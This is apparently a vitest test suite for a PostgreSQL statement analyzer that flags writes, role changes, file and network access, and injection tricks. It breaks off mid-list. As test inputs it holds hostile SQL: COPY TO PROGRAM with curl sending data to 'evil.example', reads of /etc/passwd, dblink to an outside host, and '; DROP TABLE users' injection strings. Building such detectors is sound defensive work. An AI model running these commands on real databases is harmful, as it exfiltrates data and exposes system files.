import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeStatement } from './analyze-statement.js';
import { loadSqlParser } from './load-sql-parser.js';
import type {
  StatementAnalysis,
  StatementFlag,
  StatementKind,
  TableRef,
} from './statement-analysis.js';

beforeAll(async () => {
  await loadSqlParser();
});

interface Case {
  readonly sql: string;
  readonly kind: StatementKind;
  readonly read?: readonly string[];
  readonly written?: readonly string[];
  readonly functions?: readonly string[];
  readonly flags?: readonly StatementFlag[];
  readonly readOnly: boolean;
  readonly statements?: readonly StatementKind[];
}

/** Tables as `schema.name` or `name`, sorted, so cases read like the SQL. */
function names(tables: readonly TableRef[]): string[] {
  return tables.map((t) => (t.schema === null ? t.name : `${t.schema}.${t.name}`)).sort();
}

function analyzed(sql: string): StatementAnalysis {
  const result = analyzeStatement(sql);
  if (!result.ok)
    throw new Error(`expected ${sql} to parse, got ${result.reason}: ${result.message}`);
  return result.analysis;
}

const cases: readonly Case[] = [
  // pgbench's TPC-B-like script, as the simple and the extended protocol send it.
  { sql: 'BEGIN', kind: 'transaction', readOnly: true },
  {
    sql: 'UPDATE pgbench_accounts SET abalance = abalance + -4321 WHERE aid = 77',
    kind: 'update',
    written: ['pgbench_accounts'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = $1',
    kind: 'select',
    read: ['pgbench_accounts'],
    readOnly: true,
  },
  {
    sql: 'UPDATE pgbench_tellers SET tbalance = tbalance + $1 WHERE tid = $2',
    kind: 'update',
    written: ['pgbench_tellers'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'UPDATE pgbench_branches SET bbalance = bbalance + 12 WHERE bid = 1',
    kind: 'update',
    written: ['pgbench_branches'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 77, -4321, CURRENT_TIMESTAMP)',
    kind: 'insert',
    written: ['pgbench_history'],
    flags: ['writes'],
    readOnly: false,
  },
  { sql: 'END', kind: 'transaction', readOnly: true },

  // ORM-style queries.
  {
    sql: 'SELECT "auth_user"."id", "auth_user"."username" FROM "auth_user" WHERE "auth_user"."id" = 1 LIMIT 21',
    kind: 'select',
    read: ['auth_user'],
    readOnly: true,
  },
  {
    sql: 'SELECT "users".* FROM "users" WHERE "users"."email" = $1 LIMIT $2',
    kind: 'select',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'SELECT "public"."User"."id", "public"."User"."email" FROM "public"."User" WHERE ("public"."User"."email" = $1) LIMIT $2 OFFSET $3',
    kind: 'select',
    read: ['public.User'],
    readOnly: true,
  },
  {
    sql: 'select u1_0.id, u1_0.name from App.Users u1_0 left join app.orders o1_0 on u1_0.id = o1_0.user_id where u1_0.id = $1',
    kind: 'select',
    read: ['app.orders', 'app.users'],
    readOnly: true,
  },
  {
    sql: 'INSERT INTO orders (user_id, total) VALUES ($1, $2) RETURNING orders.id',
    kind: 'insert',
    written: ['orders'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: "INSERT INTO settings (key, value) VALUES ('theme', 'dark') ON CONFLICT (key) DO UPDATE SET value = EXCLUDED.value",
    kind: 'insert',
    written: ['settings'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'UPDATE "app_item" SET "price" = CASE WHEN ("app_item"."id" = 1) THEN 10 WHEN ("app_item"."id" = 2) THEN 20 ELSE NULL END WHERE "app_item"."id" IN (1, 2)',
    kind: 'update',
    written: ['app_item'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'SELECT * FROM "Sales"."Q1 Report" r JOIN db.analytics.events e ON e.id = r.id',
    kind: 'select',
    read: ['Sales.Q1 Report', 'analytics.events'],
    readOnly: true,
  },

  // CTEs: a reference to a CTE is not a table, the CTE's own body still reads the table.
  {
    sql: 'WITH orders AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM orders',
    kind: 'select',
    read: ['orders'],
    readOnly: true,
  },
  {
    sql: 'WITH users AS (SELECT 1 AS id) SELECT * FROM users JOIN public.users pu USING (id)',
    kind: 'select',
    read: ['public.users'],
    readOnly: true,
  },
  {
    sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a, b',
    kind: 'select',
    read: ['b'],
    readOnly: true,
  },
  {
    sql: 'WITH RECURSIVE tree AS (SELECT id, parent FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree',
    kind: 'select',
    read: ['nodes'],
    readOnly: true,
  },
  {
    sql: 'SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x',
    kind: 'select',
    read: ['x'],
    readOnly: true,
  },
  {
    sql: 'WITH moved AS (DELETE FROM queue WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM moved',
    kind: 'insert',
    written: ['archive', 'queue'],
    flags: ['writes', 'data-modifying-cte'],
    readOnly: false,
  },
  {
    sql: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u',
    kind: 'select',
    written: ['accounts'],
    functions: ['count'],
    flags: ['update-without-where', 'writes', 'data-modifying-cte'],
    readOnly: false,
  },

  // Subqueries, lateral joins, set operations.
  {
    sql: 'SELECT id, (SELECT count(*) FROM orders o WHERE o.user_id = u.id) AS n FROM users u',
    kind: 'select',
    read: ['orders', 'users'],
    functions: ['count'],
    readOnly: true,
  },
  {
    sql: "SELECT * FROM products WHERE category_id IN (SELECT id FROM categories WHERE name = 'x') AND EXISTS (SELECT 1 FROM stock s WHERE s.product_id = products.id)",
    kind: 'select',
    read: ['categories', 'products', 'stock'],
    readOnly: true,
  },
  {
    sql: 'SELECT u.id, l.total FROM users u CROSS JOIN LATERAL (SELECT sum(total) AS total FROM orders o WHERE o.user_id = u.id) l',
    kind: 'select',
    read: ['orders', 'users'],
    functions: ['sum'],
    readOnly: true,
  },
  {
    sql: 'SELECT * FROM users u, LATERAL jsonb_array_elements(u.tags) AS tag',
    kind: 'select',
    read: ['users'],
    functions: ['jsonb_array_elements'],
    readOnly: true,
  },
  {
    sql: 'SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT (SELECT id FROM d)',
    kind: 'select',
    read: ['a', 'b', 'c', 'd'],
    readOnly: true,
  },
  { sql: 'VALUES (1, 2), (3, 4)', kind: 'select', readOnly: true },
  { sql: 'TABLE inventory', kind: 'select', read: ['inventory'], readOnly: true },
  {
    sql: 'SELECT * FROM ONLY measurements m WHERE m.logdate > now()',
    kind: 'select',
    read: ['measurements'],
    functions: ['now'],
    readOnly: true,
  },
  {
    sql: 'SELECT * FROM reporting.active_users_v',
    kind: 'select',
    read: ['reporting.active_users_v'],
    readOnly: true,
  },
  {
    sql: 'SELECT c.name, sum(oi.qty * p.price) FROM customers c JOIN orders o ON o.customer_id = c.id JOIN order_items oi ON oi.order_id = o.id JOIN products p ON p.id = oi.product_id LEFT JOIN regions r ON r.id = c.region_id GROUP BY c.name',
    kind: 'select',
    read: ['customers', 'order_items', 'orders', 'products', 'regions'],
    functions: ['sum'],
    readOnly: true,
  },
  {
    sql: 'SELECT extract(year FROM created_at), count(*) FROM orders GROUP BY 1',
    kind: 'select',
    read: ['orders'],
    functions: ['count', 'extract'],
    readOnly: true,
  },

  // Writes that read.
  {
    sql: "INSERT INTO archive.orders SELECT * FROM orders WHERE created < now() - interval '1 year'",
    kind: 'insert',
    read: ['orders'],
    written: ['archive.orders'],
    functions: ['now'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: "UPDATE orders o SET status = 'vip' FROM customers c WHERE o.customer_id = c.id AND c.vip",
    kind: 'update',
    read: ['customers'],
    written: ['orders'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'UPDATE users SET active = false',
    kind: 'update',
    written: ['users'],
    flags: ['update-without-where', 'writes'],
    readOnly: false,
  },
  {
    sql: 'UPDATE users SET active = false WHERE true',
    kind: 'update',
    written: ['users'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'UPDATE users SET active = false WHERE CURRENT OF user_cursor',
    kind: 'update',
    written: ['users'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'DELETE FROM sessions USING users',
    kind: 'delete',
    read: ['users'],
    written: ['sessions'],
    flags: ['delete-without-where', 'writes'],
    readOnly: false,
  },
  {
    sql: 'DELETE FROM sessions s USING users u WHERE s.user_id = u.id AND u.banned',
    kind: 'delete',
    read: ['users'],
    written: ['sessions'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'MERGE INTO inventory i USING shipments s ON i.sku = s.sku WHEN MATCHED THEN UPDATE SET qty = i.qty + s.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (s.sku, s.qty)',
    kind: 'merge',
    read: ['shipments'],
    written: ['inventory'],
    flags: ['writes'],
    readOnly: false,
  },

  // COPY.
  {
    sql: 'COPY users TO STDOUT WITH (FORMAT csv)',
    kind: 'copy-to',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'COPY users (id, email) FROM STDIN',
    kind: 'copy-from',
    written: ['users'],
    flags: ['writes'],
    readOnly: false,
  },
  {
    sql: 'COPY (SELECT * FROM users WHERE id < 10) TO STDOUT',
    kind: 'copy-to',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'COPY (DELETE FROM jobs RETURNING *) TO STDOUT',
    kind: 'copy-to',
    written: ['jobs'],
    flags: ['delete-without-where', 'writes'],
    readOnly: false,
  },
  {
    sql: "COPY users TO '/tmp/users.csv'",
    kind: 'copy-to',
    read: ['users'],
    flags: ['copy-server-file'],
    readOnly: false,
  },
  {
    sql: "COPY users FROM '/etc/passwd'",
    kind: 'copy-from',
    written: ['users'],
    flags: ['copy-server-file', 'writes'],
    readOnly: false,
  },
  {
    sql: "COPY (SELECT 1) TO PROGRAM 'curl -d @- http://evil.example'",
    kind: 'copy-to',
    flags: ['copy-program'],
    readOnly: false,
  },
  {
    sql: "COPY users FROM PROGRAM 'cat /etc/passwd'",
    kind: 'copy-from',
    written: ['users'],
    flags: ['copy-program', 'writes'],
    readOnly: false,
  },

  // Tables created from queries.
  {
    sql: 'CREATE TABLE report AS SELECT region, sum(total) FROM sales GROUP BY region',
    kind: 'create',
    read: ['sales'],
    written: ['report'],
    functions: ['sum'],
    flags: ['writes', 'ddl'],
    readOnly: false,
  },
  {
    sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM sales WITH NO DATA',
    kind: 'create',
    read: ['sales'],
    written: ['mv'],
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: 'SELECT * INTO TEMP tmp_users FROM users',
    kind: 'select',
    read: ['users'],
    written: ['tmp_users'],
    flags: ['writes', 'select-into'],
    readOnly: false,
  },

  // EXPLAIN runs the statement only with ANALYZE.
  {
    sql: 'EXPLAIN ANALYZE DELETE FROM sessions',
    kind: 'explain',
    written: ['sessions'],
    flags: ['delete-without-where', 'writes'],
    readOnly: false,
  },
  {
    sql: 'EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM users',
    kind: 'explain',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'EXPLAIN (ANALYZE off) DELETE FROM sessions',
    kind: 'explain',
    read: ['sessions'],
    readOnly: true,
  },
  {
    sql: 'EXPLAIN UPDATE users SET x = 1',
    kind: 'explain',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'EXPLAIN (ANALYZE 1, FORMAT json) CREATE TABLE x AS SELECT 1',
    kind: 'explain',
    written: ['x'],
    flags: ['writes', 'ddl'],
    readOnly: false,
  },

  // Privileges.
  {
    sql: 'GRANT SELECT, INSERT ON public.orders TO analyst',
    kind: 'grant',
    written: ['public.orders'],
    readOnly: false,
  },
  { sql: 'REVOKE ALL ON SCHEMA app FROM bob', kind: 'revoke', readOnly: false },
  { sql: 'GRANT admin TO mallory', kind: 'grant', readOnly: false },

  // Identity and settings.
  { sql: 'SET ROLE admin', kind: 'set', flags: ['set-role'], readOnly: false },
  { sql: 'RESET ROLE', kind: 'set', flags: ['set-role'], readOnly: false },
  { sql: 'SET LOCAL ROLE NONE', kind: 'set', flags: ['set-role'], readOnly: false },
  {
    sql: 'SET SESSION AUTHORIZATION postgres',
    kind: 'set',
    flags: ['set-session-authorization'],
    readOnly: false,
  },
  {
    sql: "SELECT set_config('role', 'admin', false)",
    kind: 'select',
    functions: ['set_config'],
    flags: ['set-role'],
    readOnly: false,
  },
  {
    sql: "SELECT set_config('app.tenant_id', '42', true)",
    kind: 'select',
    functions: ['set_config'],
    readOnly: true,
  },
  {
    sql: 'SELECT pg_catalog.set_config($1, $2, false)',
    kind: 'select',
    functions: ['pg_catalog.set_config'],
    flags: ['set-role', 'set-session-authorization', 'unsafe-lexer-setting'],
    readOnly: false,
  },
  { sql: 'SET search_path TO app, public', kind: 'set', readOnly: true },
  { sql: "SET client_encoding = 'UTF8'", kind: 'set', readOnly: true },
  {
    sql: "SET client_encoding TO 'SJIS'",
    kind: 'set',
    flags: ['unsafe-lexer-setting'],
    readOnly: false,
  },
  {
    sql: 'SET standard_conforming_strings = off',
    kind: 'set',
    flags: ['unsafe-lexer-setting'],
    readOnly: false,
  },
  {
    sql: 'DISCARD ALL',
    kind: 'other',
    flags: ['set-role', 'set-session-authorization'],
    readOnly: false,
  },
  { sql: 'SHOW server_version', kind: 'show', readOnly: true },

  // Opaque code.
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', kind: 'do', readOnly: false },
  {
    sql: 'CALL refresh_stats(1)',
    kind: 'call',
    functions: ['refresh_stats'],
    readOnly: false,
  },

  // Prepared statements: PREPARE carries its statement, EXECUTE is opaque.
  {
    sql: 'PREPARE fetch_user (int) AS SELECT * FROM users WHERE id = $1',
    kind: 'prepare',
    read: ['users'],
    readOnly: true,
  },
  {
    sql: 'PREPARE wipe AS DELETE FROM users',
    kind: 'prepare',
    written: ['users'],
    flags: ['delete-without-where', 'writes'],
    readOnly: false,
  },
  { sql: 'EXECUTE fetch_user(1)', kind: 'execute', readOnly: false },
  {
    sql: "EXECUTE fetch_user(nextval('s'))",
    kind: 'execute',
    functions: ['nextval'],
    readOnly: false,
  },
  { sql: 'DEALLOCATE fetch_user', kind: 'deallocate', readOnly: true },

  // Notifications, maintenance, locks.
  { sql: 'LISTEN jobs', kind: 'listen', readOnly: true },
  { sql: 'UNLISTEN *', kind: 'listen', readOnly: true },
  { sql: "NOTIFY jobs, 'payload'", kind: 'notify', readOnly: false },
  {
    sql: "SELECT pg_notify('jobs', 'payload')",
    kind: 'select',
    functions: ['pg_notify'],
    readOnly: false,
  },
  {
    sql: 'VACUUM (ANALYZE) public.events',
    kind: 'vacuum',
    written: ['public.events'],
    readOnly: false,
  },
  { sql: 'ANALYZE users', kind: 'vacuum', written: ['users'], readOnly: false },
  {
    sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE',
    kind: 'lock',
    read: ['accounts'],
    readOnly: false,
  },
  {
    sql: 'LOCK TABLE accounts IN ACCESS SHARE MODE',
    kind: 'lock',
    read: ['accounts'],
    readOnly: true,
  },
  {
    sql: "SELECT * FROM jobs WHERE state = 'ready' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED",
    kind: 'select',
    read: ['jobs'],
    flags: ['locking-read'],
    readOnly: true,
  },

  // DDL.
  {
    sql: 'CREATE INDEX CONCURRENTLY idx_orders_created ON app.orders (created_at)',
    kind: 'create',
    written: ['app.orders'],
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: 'ALTER TABLE users ADD COLUMN nickname text',
    kind: 'alter',
    written: ['users'],
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: 'DROP TABLE IF EXISTS old_logs, archive.old_events CASCADE',
    kind: 'drop',
    written: ['archive.old_events', 'old_logs'],
    flags: ['drop', 'ddl'],
    readOnly: false,
  },
  { sql: 'DROP FUNCTION f(int)', kind: 'drop', flags: ['drop', 'ddl'], readOnly: false },
  { sql: 'DROP SCHEMA staging CASCADE', kind: 'drop', flags: ['drop', 'ddl'], readOnly: false },
  {
    sql: 'TRUNCATE audit_log RESTART IDENTITY',
    kind: 'truncate',
    written: ['audit_log'],
    flags: ['truncate', 'writes', 'ddl'],
    readOnly: false,
  },
  {
    sql: 'CREATE VIEW recent AS SELECT * FROM orders WHERE created > now() - interval $$7 days$$',
    kind: 'create',
    read: ['orders'],
    written: ['recent'],
    functions: ['now'],
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: 'CREATE TABLE child (LIKE parent INCLUDING ALL, pid int REFERENCES owners (id))',
    kind: 'create',
    read: ['owners', 'parent'],
    written: ['child'],
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: "CREATE ROLE intern LOGIN PASSWORD 'hunter2'",
    kind: 'create',
    flags: ['ddl'],
    readOnly: false,
  },
  {
    sql: "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'",
    kind: 'create',
    flags: ['ddl'],
    readOnly: false,
  },
  { sql: "ALTER SYSTEM SET work_mem = '1GB'", kind: 'alter', flags: ['ddl'], readOnly: false },
  {
    sql: 'ALTER ROLE intern SET role = admin',
    kind: 'alter',
    flags: ['set-role', 'ddl'],
    readOnly: false,
  },
  {
    sql: 'ALTER DATABASE app SET standard_conforming_strings = off',
    kind: 'alter',
    flags: ['unsafe-lexer-setting', 'ddl'],
    readOnly: false,
  },
  {
    sql: "COMMENT ON TABLE users IS 'people'",
    kind: 'comment',
    written: ['users'],
    readOnly: false,
  },

  // Functions that reach files, the network or other sessions.
  {
    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    kind: 'select',
    functions: ['pg_catalog.pg_read_file'],
    flags: ['server-file-access'],
    readOnly: true,
  },
  {
    sql: "SELECT lo_import('/etc/passwd')",
    kind: 'select',
    functions: ['lo_import'],
    flags: ['server-file-access'],
    readOnly: false,
  },
  {
    sql: "SELECT * FROM pg_ls_dir('.') AS f",
    kind: 'select',
    functions: ['pg_ls_dir'],
    flags: ['server-file-access'],
    readOnly: true,
  },
  {
    sql: "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)",
    kind: 'select',
    functions: ['dblink'],
    flags: ['network-access'],
    readOnly: false,
  },
  {
    sql: "SELECT ext.dblink_exec('conn', 'DROP TABLE x')",
    kind: 'select',
    functions: ['ext.dblink_exec'],
    flags: ['network-access'],
    readOnly: false,
  },
  {
    sql: "SELECT nextval('order_seq')",
    kind: 'select',
    functions: ['nextval'],
    readOnly: false,
  },
  {
    sql: 'SELECT pg_advisory_lock(42)',
    kind: 'select',
    functions: ['pg_advisory_lock'],
    readOnly: false,
  },
  {
    sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'",
    kind: 'select',
    read: ['pg_stat_activity'],
    functions: ['pg_terminate_backend'],
    readOnly: false,
  },
  { sql: "LOAD 'auto_explain'", kind: 'other', flags: ['server-file-access'], readOnly: false },

  // Several statements in one Query: the union, read-only only if all are.
  {
    sql: 'SELECT 1; DROP TABLE users',
    kind: 'multi',
    statements: ['select', 'drop'],
    written: ['users'],
    flags: ['drop', 'ddl', 'multi-statement'],
    readOnly: false,
  },
  {
    sql: 'BEGIN; SELECT * FROM a; COMMIT;',
    kind: 'multi',
    statements: ['transaction', 'select', 'transaction'],
    read: ['a'],
    flags: ['multi-statement'],
    readOnly: true,
  },

  // Lexical tricks: what hides in comments and literals stays hidden, and only there.
  { sql: 'SELECT 1 /* ; DROP TABLE users; */', kind: 'select', readOnly: true },
  { sql: 'SELECT 1 -- ; DROP TABLE users', kind: 'select', readOnly: true },
  { sql: "SELECT '; DROP TABLE users; --'", kind: 'select', readOnly: true },
  { sql: 'SELECT $tag$ ; DROP TABLE x; $tag$', kind: 'select', readOnly: true },
  { sql: "SELECT E'\\'; DROP TABLE users; --'", kind: 'select', readOnly: true },
  {
    sql: '/* nested /* comment */ still a comment */ DROP TABLE t',
    kind: 'drop',
    written: ['t'],
    flags: ['drop', 'ddl'],
    readOnly: false,
  },
  { sql: 'SELECT * FROM U&"d\\0061ta"', kind: 'select', read: ['data'], readOnly: true },
  {
    sql: 'DELETE FROM U&"us!0065rs" UESCAPE \'!\'',
    kind: 'delete',
    written: ['users'],
    flags: ['delete-without-where', 'writes'],
    readOnly: false,
  },
];

describe('analyzeStatement', () => {
  it.each(cases)('$sql', (c) => {
    const a = analyzed(c.sql);
    expect({
      kind: a.kind,
      statements: a.statements.map((s) => s.kind),
      read: names(a.tablesRead),
      written: names(a.tablesWritten),
      functions: [...a.functions].sort(),
      flags: [...a.flags].sort(),
      readOnly: a.readOnly,
    }).toEqual({
      kind: c.kind,
      statements: c.statements ?? [c.kind],
      read: [...(c.read ?? [])].sort(),
      written: [...(c.written ?? [])].sort(),
      functions: [...(c.functions ?? [])].sort(),
      flags: [...(c.flags ?? [])].sort(),
      readOnly: c.readOnly,
    });
  });

  it('covers the corpus the package promises', () => {
    expect(cases.length).toBeGreaterThanOrEqual(80);
  });

  it('lists tables, functions and flags in a stable order without duplicates', () => {
    const a = analyzed(
      'SELECT now(), now() FROM b JOIN a ON true JOIN b b2 ON true WHERE x IN (SELECT 1 FROM a)',
    );
    expect(names(a.tablesRead)).toEqual(['a', 'b']);
    expect(a.tablesRead.map((t) => t.name)).toEqual(['b', 'a']);
    expect(a.functions).toEqual(['now']);
    const flagged = analyzed('SELECT 1; UPDATE t SET a = 1; DELETE FROM u');
    expect(flagged.flags).toEqual([
      'update-without-where',
      'delete-without-where',
      'writes',
      'multi-statement',
    ]);
  });

  it('returns frozen results', () => {
    const a = analyzed('SELECT * FROM t');
    expect(Object.isFrozen(a)).toBe(true);
    expect(Object.isFrozen(a.tablesRead)).toBe(true);
    expect(Object.isFrozen(a.tablesRead[0])).toBe(true);
    expect(Object.isFrozen(a.flags)).toBe(true);
  });
});

describe('fingerprint', () => {
  const fp = (sql: string): string => analyzed(sql).fingerprint;

  it('is the same for statements that differ only in literals, case and spacing', () => {
    expect(fp('SELECT * FROM users WHERE id = 1')).toBe(fp('select *   from users where id=42'));
    expect(fp("SELECT * FROM users WHERE name = 'ann'")).toBe(
      fp("SELECT * FROM users WHERE name = 'bob' /* tag */"),
    );
    expect(fp('UPDATE t SET a = 1.5 WHERE b = 2')).toBe(fp('UPDATE t SET a = 99 WHERE b = -7'));
  });

  it('differs when the statement differs in anything but literals', () => {
    const base = fp('SELECT * FROM users WHERE id = 1');
    expect(fp('SELECT * FROM orders WHERE id = 1')).not.toBe(base);
    expect(fp('SELECT * FROM users WHERE uid = 1')).not.toBe(base);
    expect(fp('SELECT id FROM users WHERE id = 1')).not.toBe(base);
    expect(fp('DELETE FROM users WHERE id = 1')).not.toBe(base);
    expect(fp('SELECT * FROM users WHERE id > 1')).not.toBe(base);
  });

  it('groups parameters with literals, constant lists of any length and needless quotes', () => {
    expect(fp('SELECT * FROM users WHERE id = $1')).toBe(fp('SELECT * FROM users WHERE id = 7'));
    expect(fp('SELECT * FROM users WHERE id IN (1, 2, 3)')).toBe(
      fp('SELECT * FROM users WHERE id IN ($1)'),
    );
    expect(fp("INSERT INTO t VALUES (1, 'a'), (2, 'b')")).toBe(fp('INSERT INTO t VALUES ($1, $2)'));
    expect(fp('SELECT * FROM "users"')).toBe(fp('select * from USERS'));
  });

  it('keeps apart what the constants are combined with', () => {
    expect(fp('SELECT * FROM t WHERE a = 1 AND b = 2')).not.toBe(
      fp('SELECT * FROM t WHERE b = 2 AND a = 1'),
    );
    expect(fp('INSERT INTO t VALUES (1, now())')).not.toBe(fp('INSERT INTO t VALUES (1, 2)'));
    expect(fp('SELECT 1, 2')).not.toBe(fp('SELECT 1'));
    expect(fp('SELECT 1; SELECT 2')).not.toBe(fp('SELECT 1'));
    expect(fp('SELECT * FROM "Users"')).not.toBe(fp('SELECT * FROM users'));
  });

  it('is sixteen hex digits', () => {
    expect(fp('SELECT 1; SELECT 2')).toMatch(/^[0-9a-f]{16}$/);
  });
});

describe('redactedText', () => {
  const redacted = (sql: string): string => analyzed(sql).redactedText;

  it('replaces every literal with a numbered placeholder', () => {
    expect(redacted("SELECT * FROM t WHERE a = 'x' AND b = 5 AND c = 1.5e3")).toBe(
      'SELECT * FROM t WHERE a = $1 AND b = $2 AND c = $3',
    );
    expect(
      redacted("SELECT E'a\\'b', $$x$$, $q$y$q$, U&'\\0041', B'01', X'ff', 0x1F, .5, 1_000"),
    ).toBe('SELECT $1, $2, $3, $4, $5, $6, $7, $8, $9');
  });

  it('numbers placeholders after the parameters the text already has', () => {
    expect(redacted("SELECT $1, 'a', 5 FROM t WHERE x = $3")).toBe(
      'SELECT $1, $4, $5 FROM t WHERE x = $3',
    );
  });

  it('reaches literals that libpg-query normalize keeps', () => {
    expect(redacted("COPY t FROM '/etc/secret'")).toBe('COPY t FROM $1');
    expect(redacted("COMMENT ON TABLE t IS 'secret'")).toBe('COMMENT ON TABLE t IS $1');
    expect(redacted("PREPARE p AS SELECT 'secret'")).toBe('PREPARE p AS SELECT $1');
    expect(redacted("EXECUTE p('secret', 42)")).toBe('EXECUTE p($1, $2)');
    expect(redacted("CREATE TABLE t (a text DEFAULT 'secret')")).toBe(
      'CREATE TABLE t (a text DEFAULT $1)',
    );
  });

  it('removes comments, keeping the tokens around them apart', () => {
    expect(redacted("SELECT/* app='billing' */1 -- user=ann\nFROM t")).toBe('SELECT $1 \nFROM t');
  });

  it('makes one placeholder of a string continued on the next line', () => {
    expect(redacted("SELECT 'a'\n  'b', 'c'")).toBe('SELECT $1, $2');
  });

  it('maps byte offsets to characters in non-ASCII text', () => {
    expect(redacted('SELECT "naïve", \'😀\' FROM "Ünï" WHERE c = \'ñ\'')).toBe(
      'SELECT "naïve", $1 FROM "Ünï" WHERE c = $2',
    );
  });
});

describe('refusals', () => {
  it('reports syntax errors with the parser message and its position', () => {
    expect(analyzeStatement('SELECT * FORM users')).toEqual({
      ok: false,
      reason: 'syntax',
      message: 'syntax error at or near "FORM" (position 10)',
      position: 10,
    });
    expect(analyzeStatement('SELECT 1 FROM')).toEqual({
      ok: false,
      reason: 'syntax',
      message: 'syntax error at end of input (position 14)',
      position: 14,
    });
  });

  it('keeps a literal the parser quoted out of its message', () => {
    const result = analyzeStatement("SELECT 'hunter2' 'x'");
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.reason).toBe('syntax');
      expect(result.message).not.toContain('hunter2');
      expect(result.message).not.toMatch(/'x'/);
      expect(result.position).toBe(18);
    }
    const unterminated = analyzeStatement("SELECT 'hunter2");
    expect(unterminated).toMatchObject({ ok: false, reason: 'syntax' });
    if (!unterminated.ok) expect(unterminated.message).not.toContain('hunter2');
  });

  it('calls text without a statement empty', () => {
    for (const sql of ['', '   \n\t', '-- nothing', '/* nothing */', ';', ' ; ;']) {
      expect(analyzeStatement(sql)).toMatchObject({ ok: false, reason: 'empty' });
    }
  });

  it('refuses text over the byte limit without parsing it', () => {
    expect(analyzeStatement('SELECT 1 -- ' + 'x'.repeat(100), { maxStatementBytes: 100 })).toEqual({
      ok: false,
      reason: 'too-large',
      message: 'statement text is over the 100-byte limit',
    });
    // Counted in UTF-8 bytes: 40 characters of 3 bytes each are 120 bytes.
    expect(
      analyzeStatement(`SELECT '${'€'.repeat(40)}'`, { maxStatementBytes: 100 }),
    ).toMatchObject({
      reason: 'too-large',
    });
    expect(analyzeStatement(`SELECT '${'€'.repeat(20)}'`, { maxStatementBytes: 100 }).ok).toBe(
      true,
    );
  });

  it('refuses a NUL character, where PostgreSQL would stop reading', () => {
    expect(analyzeStatement('SELECT 1\0; DROP TABLE users')).toMatchObject({
      ok: false,
      reason: 'syntax',
    });
  });

  it('reads lone surrogates as U+FFFD, as they would be encoded', () => {
    const a = analyzed('SELECT \'\uD800\' FROM "t\uDC00"');
    expect(a.tablesRead).toEqual([{ schema: null, name: 't\uFFFD' }]);
    expect(a.redactedText).toBe('SELECT $1 FROM "t\uFFFD"');
  });

  it('analyzes control characters inside literals and identifiers', () => {
    const a = analyzed('SELECT \'\u0001\u001f\u000b\' FROM "a\u0002b"\u000c');
    expect(a.tablesRead).toEqual([{ schema: null, name: 'a\u0002b' }]);
    expect(a.redactedText).toBe('SELECT $1 FROM "a\u0002b"');
  });
});

describe('hostile input', () => {
  const reasons = ['syntax', 'too-large', 'too-deep', 'empty'];

  /** Checks the result's shape; analyzeStatement must return, never throw. */
  function survives(sql: string): void {
    const result = analyzeStatement(sql, { maxStatementBytes: 4096 });
    if (result.ok) {
      expect(result.analysis.fingerprint).toMatch(/^[0-9a-f]{16}$/);
      expect(result.analysis.statements.length).toBeGreaterThan(0);
    } else {
      expect(reasons).toContain(result.reason);
      expect(typeof result.message).toBe('string');
    }
  }

  it('survives random text, lone surrogates and control characters included', () => {
    const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: codeUnit, maxLength: 300 }),
          fc.string({ unit: 'binary', maxLength: 300 }),
        ),
        survives,
      ),
      { numRuns: 2000 },
    );
  });

  it('survives soups of SQL tokens, quotes, comments and escapes', () => {
    const piece = fc.constantFrom(
      'SELECT',
      'FROM',
      'WHERE',
      'DROP',
      'TABLE',
      'WITH',
      'AS',
      'UNION',
      'JOIN',
      'CASE',
      'END',
      'COPY',
      'PROGRAM',
      'EXPLAIN',
      'ANALYZE',
      'PREPARE',
      'DO',
      'SET',
      'ROLE',
      't',
      'x.y',
      '*',
      '(',
      ')',
      '[',
      ']',
      ',',
      ';',
      '+',
      '::',
      "'",
      "''",
      '"',
      '$$',
      '$a$',
      '$1',
      "E'",
      "U&'",
